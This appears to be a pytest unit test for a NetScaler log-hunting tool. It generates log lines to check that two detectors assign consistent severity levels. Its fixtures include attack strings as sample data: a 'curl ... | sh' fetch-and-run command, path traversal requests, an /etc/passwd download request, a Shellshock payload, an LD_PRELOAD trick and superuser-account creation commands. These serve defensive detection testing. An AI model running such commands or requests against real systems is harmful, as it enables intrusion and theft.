# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""A hunt and read_logs give each drawn line of a log the same level where both look for it, whatever words a client puts into it."""

from __future__ import annotations

import random
from datetime import datetime

import pytest
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.finding import LEVELS
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.ourselves import NOBODY
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.hunting.fix_date import FixDate
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.hunting.node_hunt import NodeHunt
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.node_reading.file_reads import Limits
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.node_reading.node_reader import NodeReader
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.trace_rules.compiled_indicators import (
    clues_of,
    general_clues,
)

from tests.hunt_fleet import ENTRIES
from tests.unit.plugin_utils.traces.log_reading.stage import examine, known
from tests.unit.plugin_utils.traces.node_reading.disk import Disk

NOTHING = len(LEVELS)
COMMANDS = (
    *("id", "ls -l /", "chmod 6555 /x", "curl http://192.0.2.9/x | sh", "ldapsearch -x", "LD_PRELOAD=/x ls", "whoami"),
    *("find / -name ldapsearch", "grep ldapsearch x | sort", "tar -czvf /var/tmp/all.txt /nsconfig", "python3 -c 1"),
)
REQUESTS = (
    *("GET /vpn/../vpns/portal/x.xml", "POST /vpn/../vpns/portal/scripts/newbm.pl", "GET /vpn/themes/a.php"),
    *("GET /vpn/media/a.ico", "GET /vpns/cfg/smb.conf", "GET /logon/LogonPoint/custom/a.css", "GET /vpn/index.html"),
    *("GET /oauth/idp/.well-known/openid-configuration", "POST /rapi/filedownload?filter=path:%2Fetc%2Fpasswd"),
    "POST /pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody&username=nsroot",
)
CHANGES = (
    *("add system user x y", "bind system user x superuser 1", "show run", "save ns config", "rm system user x"),
    "add authentication epaAction e -csecexpr x -defaultEPAGroup NO_AUTH",
)
WORDS = (
    "x",
    "curl/8",
    "() { :;}; x",
    "Authentication is rejected for ",
    "pitboss: NSPPE unexpectedly died",
    "newsyslog[1]: logfile turned over",
)
"""What a client or a user calls himself."""
TEXTS = (
    *("nsaaad[1]: call to authenticate user :pitboss NSPPE; unexpectedly died x", "pitboss[1]: NSPPE-00 unexpectedly died"),
    *("sshd[1]: Accepted publickey for root from 192.0.2.1", "/usr/sbin/cron[1]: (nobody) CMD (ls /)"),
)  # fmt: skip


def drawn(chance: random.Random) -> tuple[str, str]:
    """Return the name of a log, and a line of it."""
    kind = chance.choice(("shell", "shell", "request", "request", "request", "command", "other"))
    if kind == "shell":
        log, user = chance.choice(("bash.log", "sh.log", "notice.log")), chance.choice(("root", "nobody", "nsroot"))
        said = f"{chance.choice(COMMANDS)}{chance.choice(('', '', f' # {chance.choice(WORDS)}'))}"
        terminal = chance.choice(("(null)", "/dev/pts/0"))
        return log, f'Nov 28 04:30:00 <local7.notice> ns bash[1]: {user} on {terminal} shell_command="{said}"'
    if kind == "request":
        client, status = (
            chance.choice(("198.51.100.7", "127.0.0.1", "10.0.0.1")),
            chance.choice((200, 304, 403, 404, 500)),
        )
        log, size = chance.choice(("httpaccess.log", "httpaccess-vpn.log")), chance.choice((135, 718, 71875))
        asked = f'"{chance.choice(REQUESTS)} HTTP/1.1" {status} {size} "-" "{chance.choice(WORDS)}"'
        return log, f"{client} - - [28/Nov/2026:04:30:00 +0000] {asked}"
    if kind == "command":
        user, source = chance.choice(("nsroot", *WORDS)), chance.choice(("127.0.0.1", "192.0.2.44"))
        told = (
            f'User {user} - ADM_User NONE - Remote_ip {source} - Command "{chance.choice(CHANGES)}" - Status "Success"'
        )
        head = "Nov 28 04:30:00 <local0.info> 192.0.2.11  11/28/2026:04:30:00 GMT gw 0-PPE-0 : default CLI CMD_EXECUTED 7 0 :  "
        return "ns.log", f"{head}{told}"
    return chance.choice(
        ("ns.log", "messages", "notice.log")
    ), f"Nov 28 04:30:00 <local0.info> ns {chance.choice(TEXTS)}"


@pytest.mark.parametrize("seed", range(4))
def test_a_line_has_one_level_whoever_reads_it(seed: int) -> None:
    """read_logs knows more forms of attacks, so it may find a line that a hunt has no indicator for; it calls none less urgent than a hunt does."""
    chance = random.Random(seed)
    clues = (*clues_of(ENTRIES), *general_clues())
    found = 0
    for _number in range(60):
        log, line = drawn(chance)
        view = NodeReader(Disk({f"/var/log/{log}": f"{line}\n".encode()}), Limits())  # type: ignore[arg-type]
        hunt = NodeHunt("gw", view, clues, NOBODY, FixDate(None), datetime(2026, 11, 28, 5))  # noqa: DTZ001 -- a clock of a node has no zone
        hunted = [one.level for one in hunt.findings() if one.where.startswith("/var/log")]
        reading = examine({log: f"{line}\n".encode()}, what=known(own=NOBODY)).examination.findings
        read = [one.level for one in reading if one.what != "no line of the packet engine"]
        by_indicator = [one.level for one in reading if "indicator of" in one.what]
        levels = [min(map(LEVELS.index, levels), default=NOTHING) for levels in (hunted, read, by_indicator)]
        assert levels[1] <= levels[0] <= levels[2], (line, hunted, [(one.level, one.what) for one in reading])
        found += bool(hunted)
    assert found > 10
